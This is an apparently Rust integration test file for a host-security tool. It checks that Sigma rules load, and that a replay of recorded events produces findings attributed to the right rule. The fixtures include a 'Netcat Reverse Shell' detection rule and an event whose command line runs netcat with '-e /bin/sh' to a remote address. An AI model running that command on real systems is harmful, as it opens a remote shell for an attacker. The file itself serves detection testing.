//! `innerwarden sigma check` and a Sigma rule firing through `replay --record`: the finding in
//! the audit log carries the rule's author, title, id, level and ATT&CK technique.

use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_innerwarden"))
}

const GOOD: &str = "title: Netcat Reverse Shell\nid: 0a1b2c3d-0000-4000-8000-000000000001\n\
author: Jane Doe\nlevel: high\ntags:\n  - attack.execution\n  - attack.t1059.004\n\
logsource:\n  product: linux\n  category: process_creation\n\
detection:\n  selection:\n    Image|endswith: '/nc'\n    CommandLine|contains: ' -e '\n  \
condition: selection\n";

const KEYWORD: &str = "title: Suspicious OpenSSH Daemon Error\nid: kw-1\nauthor: Sam Roe\n\
level: medium\nlogsource:\n  product: linux\n  service: sshd\n\
detection:\n  keywords:\n    - 'error in libcrypto'\n  condition: keywords\n";

const AUDITD: &str = "title: A\nlogsource:\n  product: linux\n  service: auditd\n\
detection:\n  selection:\n    type: EXECVE\n  condition: selection\n";

const UNMAPPED: &str = "title: U\nlogsource:\n  product: linux\n  category: process_creation\n\
detection:\n  selection:\n    CurrentDirectory: /tmp\n  condition: selection\n";

fn rules_dir(root: &Path) -> std::path::PathBuf {
    let d = root.join("rules");
    std::fs::create_dir_all(d.join("sub")).expect("mkdir");
    std::fs::write(d.join("good.yml"), GOOD).expect("write");
    std::fs::write(d.join("sub/keyword.yml"), KEYWORD).expect("write");
    std::fs::write(d.join("sub/auditd.yml"), AUDITD).expect("write");
    std::fs::write(d.join("unmapped.yaml"), UNMAPPED).expect("write");
    std::fs::write(d.join("notes.txt"), "not a rule").expect("write");
    std::fs::write(d.join("binary.yml"), [0xff, 0xfe, 0x00]).expect("write");
    d
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

#[test]
fn check_reports_loaded_and_rejected_with_reasons() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let dir = rules_dir(tmp.path());
    let out = bin()
        .args(["sigma", "check"])
        .arg(&dir)
        .output()
        .expect("runs");
    let t = text(&out);
    assert!(out.status.success(), "{t}");
    assert!(t.contains("2 rules loaded, 3 rejected"), "{t}");
    assert!(
        t.contains("process_creation") && t.contains("log_line"),
        "{t}"
    );
    assert!(t.contains("unsupported logsource service auditd"), "{t}");
    assert!(t.contains("unmapped field `CurrentDirectory`"), "{t}");
    assert!(t.contains("binary.yml") && t.contains("not UTF-8"), "{t}");

    let missing = bin()
        .args(["sigma", "check"])
        .arg(tmp.path().join("nope"))
        .output()
        .expect("runs");
    assert!(!missing.status.success(), "{}", text(&missing));
    assert!(text(&missing).contains("nope"), "{}", text(&missing));
}

#[test]
fn replay_with_sigma_records_an_attributed_finding() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let dir = rules_dir(tmp.path());
    let cfg = tmp.path().join("config.toml");
    std::fs::write(
        &cfg,
        format!(
            "[detectors.sigma]\nenabled = true\ndir = \"{}\"\n",
            dir.display()
        ),
    )
    .expect("config");
    let events = tmp.path().join("events.jsonl");
    std::fs::write(
        &events,
        concat!(
            r#"{"v":1,"ts":"2026-11-22T04:53:40Z","source":"ebpf","kind":"exec","pid":700,"ppid":1,"uid":0,"gid":0,"comm":"nc","filename":"/usr/bin/nc","argv":["nc","10.0.0.9","4444","-e","/bin/sh"]}"#,
            "\n",
            r#"{"v":1,"ts":"2026-11-22T04:53:41Z","source":"ebpf","kind":"exec","pid":701,"ppid":1,"uid":0,"gid":0,"comm":"nc","filename":"/usr/bin/nc","argv":["nc","-l","8080"]}"#,
            "\n",
            r#"{"v":1,"ts":"2026-11-22T04:53:42Z","source":"journald","kind":"log_line","service":"sshd","pid":812,"facility":4,"message":"ssh_dispatch_run_fatal: Connection from 203.0.113.7 port 50122: error in libcrypto [preauth]"}"#,
            "\n",
            r#"{"v":1,"ts":"2026-11-22T04:53:43Z","source":"journald","kind":"log_line","service":"nginx","pid":813,"message":"error in libcrypto"}"#,
            "\n"
        ),
    )
    .expect("events");
    let state = tmp.path().join("state");
    let out = bin()
        .arg("--config")
        .arg(&cfg)
        .arg("--state-dir")
        .arg(&state)
        .args(["replay", "--record"])
        .arg(&events)
        .output()
        .expect("runs");
    assert!(out.status.success(), "{}", text(&out));
    let findings: Vec<Value> = std::fs::read_to_string(state.join("audit.jsonl"))
        .expect("audit log")
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).expect("json"))
        .filter(|r| r["kind"] == "finding")
        .collect();
    let sigma: Vec<&Value> = findings
        .iter()
        .filter(|r| r["payload"]["detector"] == "sigma")
        .collect();
    assert_eq!(sigma.len(), 2, "{findings:?}");
    // The keyword rule: the sshd line, not the same words from nginx.
    let kw = &sigma[1]["payload"];
    assert_eq!(kw["author"], "Sam Roe");
    assert!(
        kw["summary"]
            .as_str()
            .is_some_and(|s| s.contains("Suspicious OpenSSH Daemon Error")),
        "{kw}"
    );
    let f = &sigma[0]["payload"];
    assert_eq!(f["author"], "Jane Doe");
    assert_eq!(f["technique"], "T1059.004");
    assert_eq!(f["severity"], "high");
    let summary = f["summary"].as_str().expect("summary");
    assert!(summary.contains("Netcat Reverse Shell"), "{summary}");
    assert!(
        summary.contains("0a1b2c3d-0000-4000-8000-000000000001"),
        "{summary}"
    );
}
